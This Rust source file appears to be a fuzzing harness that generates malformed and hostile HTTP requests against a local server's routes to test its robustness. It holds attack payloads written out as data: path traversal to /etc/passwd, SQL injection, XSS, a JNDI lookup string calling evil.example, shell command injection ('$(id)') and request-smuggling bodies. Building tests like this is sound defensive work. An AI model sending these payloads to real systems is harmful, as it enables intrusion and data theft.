//! Hostile requests: a list that follows from its length alone, so that what broke a server can be sent again.
//!
//! Each is a name and the bytes that go over the socket; whoever sends it closes its half behind it.

#![allow(dead_code, reason = "each user needs its own part")]

use flywheel::seed::Stream;
use flywheel::serve::route::{Method, Route};

/// Texts that have broken servers: other paths, other statements, other types, other lengths.
const WORDS: &[&str] = &[
    "../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "....//....//etc/passwd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://evil.example/",
    "//evil.example/",
    "served.db",
    "../served.db",
    "served.db-wal",
    ".git/config",
    "pipeline.toml",
    "%00",
    "a%00.png",
    "%ff%fe",
    "%",
    "%zz",
    "'",
    "%27%20OR%201%3D1--",
    "%27%3BDROP%20TABLE%20sample%3B--",
    "1)%20UNION%20SELECT%20body%20FROM%20run--",
    "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "{{7*7}}",
    "%24%7Bjndi%3Aldap%3A//evil.example/a%7D",
    "-1",
    "0",
    "1e309",
    "NaN",
    "0x10",
    "18446744073709551615",
    "18446744073709551616",
    "9223372036854775808",
    "-9223372036854775809",
    "99999999999999999999999999999999999999",
    "%E2%80%AEgnp.exe",
    "%F0%9F%A6%80",
    "*",
    "[]",
    "true",
    "null",
    "con",
    "a%0d%0aSet-Cookie:%20flywheel=1",
    "%0a%0d%0a<html>",
    "~root",
    "|id",
    "`id`",
    "$(id)",
];

/// Methods that are not ours, and names that are none.
const METHODS: &[&str] =
    &["PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "get", "G E T", "", "POST\0", "ÄÖÜ", "PRI"];

/// Hosts that are not ours, or no hosts.
const HOSTS: &[&str] = &[
    "evil.example",
    "127.0.0.1.evil.example",
    "localhost.evil.example",
    "",
    " ",
    "[::1",
    "[]",
    "::1",
    "127.0.0.1:99999999",
    "user@127.0.0.1",
    "127.0.0.1/..",
    "127.0.0.1#",
    "\u{0}",
    "a,b",
    "0",
    "..",
];

/// What is no HTTP at all.
fn other_tongues() -> Vec<(String, Vec<u8>)> {
    let mut found: Vec<(&str, Vec<u8>)> = vec![
        ("nothing", vec![]),
        ("a line end", b"\r\n".to_vec()),
        ("many line ends", b"\r\n".repeat(4000)),
        ("zeros", vec![0; 5000]),
        ("HTTP/0.9", b"GET /\r\n".to_vec()),
        ("HTTP/1.0 without a host", b"GET / HTTP/1.0\r\n\r\n".to_vec()),
        ("HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec()),
        ("HTTP/9", b"GET / HTTP/9.9\r\nHost: 127.0.0.1\r\n\r\n".to_vec()),
        ("TLS", b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03".repeat(50)),
        ("SSH", b"SSH-2.0-OpenSSH_9.6\r\n".to_vec()),
        ("SMTP", b"EHLO evil.example\r\nMAIL FROM:<a@b>\r\n".to_vec()),
        ("SOCKS", b"\x05\x01\0".to_vec()),
        ("a proxy's head", b"PROXY TCP4 1.2.3.4 5.6.7.8 1 2\r\nGET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".to_vec()),
        ("redis", b"*1\r\n$7\r\nCONFIG\r\n".to_vec()),
        ("bare line feeds", b"GET / HTTP/1.1\nHost: 127.0.0.1\n\n".to_vec()),
        ("a folded header", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: a\r\n b\r\n\r\n".to_vec()),
        ("a space before a colon", b"GET / HTTP/1.1\r\nHost : 127.0.0.1\r\n\r\n".to_vec()),
        ("another authority", b"GET http://evil.example/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".to_vec()),
        ("two hosts", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n\r\n".to_vec()),
        ("a star", b"OPTIONS * HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".to_vec()),
        (
            "an upgrade",
            b"GET /events HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n".to_vec(),
        ),
        (
            "a range of years",
            b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nRange: bytes=0-,0-,0-,0-,0-\r\nConnection: close\r\n\r\n".to_vec(),
        ),
    ];
    let long = |n: usize| format!("GET /{} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n", "a".repeat(n)).into_bytes();
    found.extend([
        ("a long path", long(9_000)),
        ("a longer path", long(20_000)),
        ("the longest path", long(2_000_000)),
    ]);
    let head = |n: usize| {
        let lines: String = (0..n).map(|i| format!("X-{i}: y\r\n")).collect();
        format!("GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n{lines}\r\n").into_bytes()
    };
    found.extend([("65 headers", head(65)), ("1000 headers", head(1000)), ("50000 headers", head(50_000))]);
    found.into_iter().map(|(name, bytes)| (name.to_owned(), bytes)).collect()
}

/// Bodies that do not fit their heads.
fn bodies(path: &str) -> Vec<(String, Vec<u8>)> {
    let post = |head: &str, body: &[u8]| {
        let mut bytes = format!("POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{head}\r\n").into_bytes();
        bytes.extend_from_slice(body);
        bytes
    };
    let form = "Content-Type: application/x-www-form-urlencoded\r\nSec-Fetch-Site: same-origin\r\n";
    let all = [
        ("no length", post(form, b"a=1")),
        ("a wrong length", post(&format!("{form}Content-Length: 5000\r\n"), b"a=1")),
        ("a negative length", post(&format!("{form}Content-Length: -1\r\n"), b"a=1")),
        ("a length of words", post(&format!("{form}Content-Length: five\r\n"), b"a=1")),
        ("a length beyond numbers", post(&format!("{form}Content-Length: 99999999999999999999\r\n"), b"a=1")),
        ("a giant length", post(&format!("{form}Content-Length: 9000000000\r\n"), &b"a=1".repeat(100))),
        ("two lengths", post(&format!("{form}Content-Length: 3\r\nContent-Length: 4\r\n"), b"a=1b")),
        (
            "length and chunks",
            post(&format!("{form}Content-Length: 3\r\nTransfer-Encoding: chunked\r\n"), b"3\r\na=1\r\n0\r\n\r\n"),
        ),
        ("bad chunks", post(&format!("{form}Transfer-Encoding: chunked\r\n"), b"zz\r\na=1\r\n")),
        ("a giant chunk", post(&format!("{form}Transfer-Encoding: chunked\r\n"), b"ffffffffffffffff\r\na=1\r\n")),
        ("many chunks", post(&format!("{form}Transfer-Encoding: chunked\r\n"), &b"1\r\na\r\n".repeat(70_000))),
        ("another encoding", post(&format!("{form}Transfer-Encoding: gzip, chunked\r\n"), b"3\r\na=1\r\n0\r\n\r\n")),
        ("a large form", post(&format!("{form}Content-Length: 300000\r\n"), &[b'a'; 300_000])),
        ("no form", post("Content-Type: text/plain\r\nSec-Fetch-Site: same-origin\r\nContent-Length: 3\r\n", b"a=1")),
        (
            "deep JSON",
            post(
                "Content-Type: application/json\r\nSec-Fetch-Site: same-origin\r\nContent-Length: 60000\r\n",
                &[b'['; 60_000],
            ),
        ),
        ("parts", post("Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 9\r\n", b"--x\r\n\r\n--")),
        ("bytes that are no text", post(&format!("{form}Content-Length: 4\r\n"), b"\xff\xfe=\xff")),
        ("a continuation", post(&format!("{form}Expect: 100-continue\r\nContent-Length: 3\r\n"), b"a=1")),
        (
            "two requests in one",
            post(&format!("{form}Content-Length: 0\r\n"), b"POST /actions/pause HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"),
        ),
    ];
    all.into_iter().map(|(name, bytes)| (format!("{name} to {path}"), bytes)).collect()
}

/// At least `count` requests against these routes.
pub fn requests(routes: &[Route], count: usize) -> Vec<(String, Vec<u8>)> {
    let get = |target: &str, head: &str| {
        format!("GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n{head}\r\n").into_bytes()
    };
    let mut all = other_tongues();
    for host in HOSTS {
        let text = format!("GET /status.json HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
        all.push((format!("host {host:?}"), text.into_bytes()));
    }
    for route in routes.iter().filter(|r| !r.path.contains("}.") && r.path != "/events") {
        for method in METHODS {
            let text = format!("{method} {} HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n", route.path);
            all.push((format!("method {method:?} of {}", route.path), text.into_bytes()));
        }
        if route.method == Method::Post {
            all.extend(bodies(route.path));
        }
        for word in WORDS {
            all.push((format!("{word} below {}", route.path), get(&format!("{}/{word}", plain(route.path, "1")), "")));
            if route.path.contains('{') {
                all.push((format!("{word} in {}", route.path), get(&plain(route.path, word), "")));
            }
            for field in route.fields.iter().filter(|f| !route.path.contains(f.name)) {
                let target = format!("{}?{}={word}", plain(route.path, "1"), field.name);
                all.push((format!("{} = {word} of {}", field.name, route.path), get(&target, "")));
            }
        }
    }
    let sound: Vec<Vec<u8>> = routes
        .iter()
        .filter(|r| r.path != "/events")
        .map(|r| get(&plain(r.path, "1"), "Accept: */*\r\nCookie: flywheel=0\r\nIf-None-Match: \"x\"\r\n"))
        .collect();
    let mut stream = Stream::new(&[b"hostile"]);
    let mut number = 0;
    while all.len() < count {
        number += 1;
        let mut bytes = stream.pick(&sound).clone();
        match number % 3 {
            // Some bytes changed.
            0 => {
                for _ in 0..stream.int(1..=6) {
                    let place = stream.int(0..=bytes.len() as i64 - 1) as usize;
                    bytes[place] = stream.int(0..=255) as u8;
                }
            }
            // Cut off somewhere.
            1 => bytes.truncate(stream.int(0..=bytes.len() as i64 - 1) as usize),
            // A piece doubled many times.
            _ => {
                let start = stream.int(0..=bytes.len() as i64 - 2) as usize;
                let end = stream.int(start as i64 + 1..=bytes.len() as i64) as usize;
                let piece = bytes[start..end].repeat(stream.int(2..=200) as usize);
                bytes.splice(start..end, piece);
            }
        }
        all.push((format!("mutant {number}"), bytes));
    }
    all
}

/// A path with a word for each parameter.
fn plain(path: &str, word: &str) -> String {
    let mut out = String::new();
    let mut rest = path;
    while let Some((head, tail)) = rest.split_once('{') {
        out += head;
        out += word;
        rest = tail.split_once('}').map_or("", |(_, after)| after);
    }
    out + rest
}
